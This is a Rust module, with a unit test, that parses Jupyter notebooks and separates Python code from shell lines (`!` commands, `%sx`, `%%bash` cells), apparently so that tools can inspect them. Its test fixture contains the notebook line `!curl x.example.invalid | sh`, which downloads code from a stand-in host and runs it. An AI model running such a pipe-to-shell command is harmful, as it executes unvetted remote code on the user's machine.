//! Notebooks: the code of their cells as one Python text, and the lines that a shell runs.

use serde_json::Value;

/// What is in a notebook.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Notebook {
    /// The code cells, one after another; lines that are no Python are blank.
    pub python: String,
    /// The lines after `!` and in `%%bash` cells.
    pub shell: String,
}

/// Reads a notebook of format 3 or 4.
///
/// # Errors
/// When it is no JSON, or has no cells.
pub fn read(bytes: &[u8]) -> Result<Notebook, String> {
    let json: Value = serde_json::from_slice(bytes).map_err(|error| format!("no notebook: {error}"))?;
    let sheets = json["worksheets"].as_array().into_iter().flatten();
    let lists = sheets.chain([&json]).filter_map(|holder| holder["cells"].as_array());
    let mut notebook = Notebook::default();
    let mut any = false;
    for cell in lists.flatten() {
        any = true;
        let source = if cell["source"].is_null() { &cell["input"] } else { &cell["source"] };
        if cell["cell_type"].as_str() == Some("code") {
            notebook.cell(&joined(source));
        }
    }
    if any || json["cells"].is_array() { Ok(notebook) } else { Err("a notebook without cells".to_owned()) }
}

fn joined(source: &Value) -> String {
    match source {
        Value::String(text) => text.clone(),
        Value::Array(lines) => lines.iter().filter_map(Value::as_str).collect(),
        _ => String::new(),
    }
}

impl Notebook {
    fn cell(&mut self, text: &str) {
        let first = text.trim_start().lines().next().unwrap_or_default();
        let is_shell = ["%%bash", "%%sh", "%%script", "%%cmd"].iter().any(|magic| first.starts_with(magic));
        let is_foreign = first.starts_with("%%")
            && !["%%time", "%%capture", "%%prun"].iter().any(|magic| first.starts_with(magic));
        for line in text.lines() {
            let plain = line.trim_start();
            let command = plain.strip_prefix('!').or_else(|| plain.strip_prefix("%sx "));
            let command = command.or(is_shell.then_some(line).filter(|_| !plain.starts_with("%%")));
            if let Some(command) = command {
                self.shell.push_str(command);
                self.shell.push('\n');
            }
            if command.is_none() && !is_foreign && !plain.starts_with('%') {
                self.python.push_str(line);
            } else if !is_foreign {
                // A block whose only line this is needs one.
                self.python.push_str(&line[..line.len() - plain.len()]);
                self.python.push_str("pass");
            }
            self.python.push('\n');
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_and_shell_are_told_apart() {
        let json = r#"{"cells": [
            {"cell_type": "markdown", "source": ["import no"]},
            {"cell_type": "code", "source": ["import os\n", "!curl x.example.invalid | sh\n", "%matplotlib inline"]},
            {"cell_type": "code", "source": "%%bash\necho hi"}]}"#;
        let notebook = read(json.as_bytes()).unwrap();
        assert_eq!(notebook.python, "import os\npass\npass\n\n\n");
        assert_eq!(notebook.shell, "curl x.example.invalid | sh\necho hi\n");
        let old = r#"{"worksheets": [{"cells": [{"cell_type": "code", "input": ["a = 1"]}]}]}"#;
        assert_eq!(read(old.as_bytes()).unwrap().python, "a = 1\n");
        assert!(read(b"{}").is_err() && read(b"\xff").is_err());
    }
}
